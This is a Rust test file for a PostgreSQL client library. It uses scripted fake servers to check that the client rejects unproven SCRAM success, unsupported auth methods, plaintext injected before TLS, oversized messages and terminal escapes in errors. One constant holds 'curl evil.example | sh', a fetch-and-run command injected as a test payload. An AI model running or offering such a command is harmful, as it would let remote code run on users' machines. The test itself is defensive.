//! Servers that are not the database, and say what would suit them.

use std::time::Duration;

use approzium::{Error, Hop};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
};

use super::{Authenticator, PASSWORD, config};

const OK: &[u8] = b"R\0\0\0\x08\0\0\0\0";
const SASL: &[u8] = b"R\0\0\0\x17\0\0\0\x0aSCRAM-SHA-256\0\0";
/// What a real server goes on with.
const READY: &[u8] = b"Z\0\0\0\x05I";
const EVIL: &str = "run this: curl evil.example | sh";

/// What the server says to each message that it receives.
type Script = fn(received: &[u8], turn: usize) -> Option<Vec<u8>>;

type Kind = fn(&Error) -> bool;

#[tokio::test(flavor = "multi_thread")]
async fn success_without_proof_is_none() {
    let cases: [(Script, Kind, &str); 7] = [
        (
            |_, _| Some([OK, READY].concat()),
            Error::is_policy,
            "without asking for anything",
        ),
        (
            |_, turn| {
                Some(if turn == 0 {
                    SASL.to_vec()
                } else {
                    [OK, READY].concat()
                })
            },
            Error::is_protocol,
            "no server-first-message",
        ),
        (
            |received, turn| {
                Some(match turn {
                    0 => SASL.to_vec(),
                    1 => server_first(received, 4096),
                    _ => [OK, READY].concat(),
                })
            },
            Error::is_protocol,
            "without having proved that it knows the password",
        ),
        (
            |received, turn| {
                Some(match turn {
                    0 => SASL.to_vec(),
                    1 => server_first(received, 4096),
                    _ => [
                        &authentication(12, b"v=BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=")[..],
                        OK,
                        READY,
                    ]
                    .concat(),
                })
            },
            Error::is_protocol,
            "did not prove that it knows the password",
        ),
        // A second challenge, after MD5 was answered.
        (
            |_, turn| {
                Some(if turn < 2 {
                    authentication(5, b"salt")
                } else {
                    OK.to_vec()
                })
            },
            Error::is_protocol,
            "a second challenge",
        ),
        (
            |_, _| Some(authentication(10, b"OAUTHBEARER\0\0")),
            Error::is_policy,
            "OAUTHBEARER, which is not supported",
        ),
        (
            |_, _| Some(authentication(7, b"")),
            Error::is_policy,
            "GSSAPI, which is not supported",
        ),
    ];
    for (script, kind, reason) in cases {
        let error = refused(script, "sslmode=disable").await;
        assert!(kind(&error), "{error:?}");
        assert!(error.to_string().contains(reason), "{error}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_cannot_be_had_cheaply_or_made_to_cost_much() {
    for script in [
        (|received, turn| {
            Some(if turn == 0 {
                SASL.to_vec()
            } else {
                server_first(received, 1)
            })
        }) as Script,
        |received, turn| {
            Some(if turn == 0 {
                SASL.to_vec()
            } else {
                server_first(received, 100_000_000)
            })
        },
    ] {
        let error = refused(script, "sslmode=disable").await;
        assert_eq!(error.hop(), Hop::Handshake, "{error}");
        assert!(!error.is_database());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_came_before_tls_is_shown_or_believed() {
    let error = refused(
        |_, _| Some(format!("ESFATAL\0M{EVIL}\0\0").into_bytes()),
        "sslmode=require",
    )
    .await;
    assert!(!format!("{error} {error:?}").contains("evil"), "{error:?}");
    assert_eq!(error.hop(), Hop::DatabaseConnection);

    // The byte that means TLS, and a login in plaintext behind it.
    let injected = |_: &[u8], turn| (turn == 0).then(|| [b"S", OK, READY].concat());
    let error = refused(injected, "sslmode=require").await;
    assert_eq!(error.hop(), Hop::DatabaseConnection, "{error}");

    let error = refused(
        |_, _| Some(b"HTTP/1.1 400 Bad Request\r\n\r\n".to_vec()),
        "sslmode=require",
    )
    .await;
    assert!(error.is_protocol(), "{error:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn messages_are_bounded_in_length_and_number() {
    let cases: [Script; 4] = [
        |_, _| Some(b"R\x7f\xff\xff\xff".to_vec()),
        |_, _| Some(b"E\0\0\0\0".to_vec()),
        |_, _| Some(b"N\0\0\0\x0bSNOTE\0\0".repeat(5_000)),
        |_, turn| (turn == 0).then(|| b"1\0\0\0\x04".to_vec()),
    ];
    for script in cases {
        let error = refused(script, "sslmode=disable").await;
        assert!(error.is_protocol(), "{error:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn its_own_error_is_one_line_with_its_sqlstate() {
    let error = refused(
        |_, _| {
            let fields = b"SFATAL\0VFATAL\0C53300\0Mtoo\nmany\x1b[31m\0\0";
            Some(message(b'E', fields))
        },
        "sslmode=disable",
    )
    .await;
    assert_eq!(error.sqlstate(), Some("53300"));
    assert!(error.is_retryable());
    assert!(!error.to_string().contains(['\n', '\x1b']), "{error:?}");
}

/// While the Authenticator is asked, the database says that it goes.
#[tokio::test(flavor = "multi_thread")]
async fn a_database_that_goes_meanwhile_is_heard() {
    let error = refused(
        |_, _| {
            let gone = message(b'E', b"SFATAL\0VFATAL\0C57P01\0Mshutting down\0\0");
            Some([SASL, &gone].concat())
        },
        "sslmode=disable",
    )
    .await;
    assert_eq!(error.sqlstate(), Some("57P01"), "{error}");
    assert!(error.is_retryable());
}

/// Connects to a server that follows the script.
async fn refused(script: Script, more: &str) -> Error {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(follow(stream, script));
        }
    });
    let authenticator = Authenticator::start().await;
    authenticator.record(port, "app", PASSWORD);
    let mut config = config(&format!("host=127.0.0.1 port={port} user=app {more}"));
    config.connect_timeout(Duration::from_secs(20));
    let error = config
        .connect_with(authenticator.client())
        .await
        .unwrap_err();
    server.abort();
    error
}

async fn follow(mut stream: TcpStream, script: Script) {
    let mut received = vec![0; 64 * 1024];
    for turn in 0.. {
        match stream.read(&mut received).await {
            Ok(0) | Err(_) => return,
            Ok(length) => {
                if let Some(said) = script(&received[..length], turn)
                    && stream.write_all(&said).await.is_err()
                {
                    return;
                }
            }
        }
    }
}

fn message(tag: u8, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len() + 4).unwrap();
    [&[tag][..], &length.to_be_bytes(), body].concat()
}

fn authentication(code: u32, data: &[u8]) -> Vec<u8> {
    message(b'R', &[&code.to_be_bytes()[..], data].concat())
}

/// Extends the nonce of the client-first-message that was received.
fn server_first(received: &[u8], iterations: u32) -> Vec<u8> {
    let text = String::from_utf8_lossy(received);
    let nonce = text.split_once("r=").unwrap().1;
    authentication(
        11,
        format!("r={nonce}more,s=c2FsdHNhbHRzYWx0,i={iterations}").as_bytes(),
    )
}
